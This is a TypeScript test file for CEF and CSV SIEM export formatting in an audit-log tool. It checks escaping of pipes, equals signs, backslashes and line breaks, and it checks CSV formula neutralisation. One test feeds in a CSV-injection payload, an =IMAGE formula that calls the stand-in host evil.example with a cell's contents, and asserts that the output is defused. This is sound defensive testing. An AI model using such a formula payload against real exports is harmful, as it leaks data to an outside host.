import { canonical } from './event';
import { cefHeader, cefValue, csvHeader, toCef, toCsv } from './formats';

const event = {
  v: 1,
  id: '0195c000-0000-7000-8000-000000000001',
  org: '0195c000-0000-7000-8000-000000000002',
  at: '2026-11-21T10:00:00.000Z',
  actor: { type: 'user', id: '0195c000-0000-7000-8000-000000000003' },
  action: 'group.create',
  target: { type: 'Group', id: '0195c000-0000-7000-8000-000000000004' },
  outcome: 'success',
  client: 'console',
  payload: { name: 'a|b=c\\d\nnext' },
};

describe('SIEM formats', () => {
  it('escapes CEF header pipes and backslashes, extension equals, backslashes and line breaks', () => {
    expect(cefHeader('a|b\\c')).toBe('a\\|b\\\\c');
    expect(cefValue('k=v\\w\nx\ry')).toBe('k\\=v\\\\w\\nx\\ry');
    const line = toCef({ seq: 7, hash: 'ab', canonical: canonical(event) }, '0.1.0');
    expect(line.startsWith('CEF:0|Steward|Steward|0.1.0|group.create|group.create|3|rt=1795255200000 externalId=0195c000-0000-7000-8000-000000000001 cn1=7 ')).toBe(true);
    expect(line).toContain('msg={"name":"a|b\\=c\\\\\\\\d\\\\nnext"}');
    expect(line).not.toContain('\n');
    expect(line).not.toContain('cs3Label');
    // Every "=" in the extension is either a key separator or escaped.
    const ext = line.split('|').slice(7).join('|');
    for (const m of ext.matchAll(/(?<!\\)=/g)) expect(ext.slice(0, m.index).match(/(^| )([A-Za-z0-9]+)$/)).not.toBeNull();
  });

  it('neutralises CSV cells a spreadsheet would evaluate (a caller can write the address and the request id)', () => {
    const row = toCsv({ seq: 1, hash: 'ff', canonical: canonical({ ...event, ip: '=IMAGE("https://evil.example/x?"&G2)', req: '-1-1-1-1-1' }) });
    const cells = row.split(',');
    expect(row).toContain(`"'=IMAGE(""https://evil.example/x?""&G2)"`);
    expect(cells).toContain("'-1-1-1-1-1");
    expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
  });

  it('quotes CSV cells that need it', () => {
    expect(csvHeader().split(',')).toHaveLength(18);
    const row = toCsv({ seq: 1, hash: 'ff', canonical: canonical({ ...event, payload: { note: 'say "hi", then go' } }) });
    expect(row).toContain('"{""note"":""say \\""hi\\"", then go""}"');
  });
});
